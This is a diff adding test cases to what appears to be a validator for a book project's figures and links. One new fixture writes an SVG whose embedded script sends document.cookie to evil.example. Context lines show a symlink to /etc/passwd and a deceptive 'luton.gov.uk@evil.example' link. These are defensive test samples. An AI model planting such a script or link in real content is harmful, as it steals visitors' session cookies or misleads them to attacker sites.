@@ -527,6 +527,12 @@ CASES += [
         "figures/logo.png: is a link to a file outside the project (/etc/passwd): a page that shows or links it would "
         "publish that file of the build machine — copy the file itself into the project in place of the link",
     ]),
+    ("chapter-svg-picture-with-a-script", "figures/map.svg",
+     also(write('<svg xmlns="http://www.w3.org/2000/svg">\n<script>fetch("https://evil.example/?c="+document.cookie)'
+                '</script>\n</svg>\n'), NET_ZERO, append("\n![Map](../figures/map.svg)\n")), [
+        "figures/map.svg:2: the picture holds a <script> element, which runs when the picture is opened — remove it (an "
+        "editor's 'export as plain SVG' or 'optimise' leaves the drawing alone), or save the picture as .png",
+    ]),
     ("chapter-link-with-a-user-name-before-the-site", NET_ZERO,
      append("\nApply at [the council](https://luton.gov.uk@evil.example/grants).\n"), [
         "chapters/net-zero.qmd:21: the link 'https://luton.gov.uk@evil.example/grants' goes to evil.example, not to "
